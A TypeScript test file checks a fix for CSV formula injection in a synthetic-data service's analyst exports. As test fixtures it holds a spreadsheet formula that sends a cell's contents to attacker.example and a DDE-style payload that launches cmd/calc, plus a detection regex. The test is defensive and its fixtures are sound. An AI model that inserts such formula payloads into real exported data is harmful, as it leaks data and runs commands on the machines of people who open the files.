/**
 * Issue 22, low: CSV formula injection. A data owner's declared levels reach the analysts'
 * synthetic CSVs as they are: a confidential categorical outcome's level set is public and every
 * synthetic record takes one of its levels, and a public covariate's values are copied. A level
 * such as `=HYPERLINK("http://x","y")` then runs as a formula in the analyst's spreadsheet. Text
 * cells that begin with `=`, `+`, `-`, `@`, a tab or a carriage return are now released with a
 * leading `'` (OWASP), while numbers (negative ones too) stay numbers.
 */
import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import * as h from "./_helpers.ts";

const LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")';
const CMD = "@SUM(1+1)*cmd|' /C calc'!A0";
/** The outcome's declared levels: two formulas, a plain one and a negative number's text. */
const Y_LEVELS = [LINK, "+1+1", "plain", "-2"];
/** A public covariate's values (the data's cells are trimmed, so no leading tab). */
const G_LEVELS = [CMD, "-cmd", "+SUM(A1)", "ok"];
const FORMULA = /^[=+\-@\t\r]/;
const DECIMAL = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;

/** A synthesis on a registered dataset as the analyst: the released CSVs' rows, header first. */
async function release(
  t: h.TestApp,
  { owner, analyst }: h.TenantKeys,
  request: Record<string, unknown>,
): Promise<string[][][]> {
  const accepted = await h.post(t, "/v1/syntheses", analyst, request);
  const submitted = await accepted.json();
  assert.equal(accepted.status, 202, JSON.stringify(submitted));
  const job = await h.waitFor(t, submitted.location, analyst, 120_000);
  if (job.status !== "succeeded") {
    const reason = await h.get(t, `/v1/syntheses/${job.id}/diagnostics`, owner);
    assert.fail(`the ${request.mechanism} job failed: ${JSON.stringify(await reason.json())}`);
  }
  const files = [];
  for (const path of job.datasets as string[]) {
    const response = await h.get(t, path, analyst);
    assert.equal(response.status, 200);
    const rows = parse(await response.text()) as string[][];
    for (const row of rows) {
      for (const cell of row) {
        assert.ok(
          !FORMULA.test(cell) || DECIMAL.test(cell),
          `the analyst's spreadsheet would run ${JSON.stringify(cell)} (in ${path})`,
        );
      }
    }
    files.push(rows);
  }
  return files;
}

Deno.test("csv injection: an owner's formula levels reach no analyst's synthetic CSV unescaped", async () => {
  const t = await h.testApp({ workers: 1 });
  try {
    const keys = await h.tenantKeys(t);
    // Records (JSON), so that the levels need no CSV quoting; z and w hold negative numbers, y
    // varies within every level of g (no separation: the fit converges).
    const n = 60;
    const records = Array.from({ length: n }, (_, i) => ({
      z: ((i * 3) % 5) / 5 - 0.5,
      g: G_LEVELS[i % G_LEVELS.length],
      y: Y_LEVELS[(i >> 2) % Y_LEVELS.length],
      w: Number(h.confidentialValues(n)[i]) - 3,
    }));
    const { id: datasetId } = await h.register(t, keys.owner, {
      epsilonTotal: 2000,
      records,
      publicColumns: ["z", "g"],
      levels: { y: Y_LEVELS, g: G_LEVELS },
      bounds: { w: [-1, 1] },
    });

    const both = { datasetId, x: ["z", "g"], m: 2 };
    // Enough draws that the fit passes its diagnostics (R̂ ≤ 1.01, bulk ESS ≥ 400).
    const passing = { draws: 8000, chains: 4, warmup: 500 };
    // The outcome's declared levels (a categorical synthesis releases values from them).
    const categorical = await release(t, keys, {
      ...both,
      y: "y",
      model: "categorical",
      mechanism: "unweighted",
      epsilon: 500,
      ...passing,
    });
    // A public covariate's values (copied into every release; a histogram needs no fit).
    const histogram = await release(t, keys, {
      ...both,
      y: "w",
      model: "normal",
      mechanism: "histogram",
      bins: 6,
      epsilon: 1,
    });

    // Nothing is lost: the escaped levels are the declared ones behind a quote, and numbers
    // (negative ones, the level "-2") are written as numbers.
    for (const [header, ...body] of [...categorical, ...histogram]) {
      assert.equal(body.length, n);
      const column = (name: string) => body.map((row) => row[header.indexOf(name)]);
      assert.deepEqual(new Set(column("z")), new Set(records.map(({ z }) => String(z))));
      assert.deepEqual(new Set(column("g")), new Set([`'${CMD}`, "'-cmd", "'+SUM(A1)", "ok"]));
      if (header.includes("w")) {
        assert.ok(column("w").every((cell) => DECIMAL.test(cell)), "w stays numeric");
      }
    }
    const y = new Set(
      categorical.flatMap(([header, ...body]) => body.map((row) => row[header.indexOf("y")])),
    );
    const released = [`'${LINK}`, "'+1+1", "plain", "-2"];
    assert.ok([...y].every((cell) => released.includes(cell)), [...y].join(" | "));
    assert.ok(y.has(`'${LINK}`), "the formula level was released (escaped)");
  } finally {
    await t.close();
  }
});
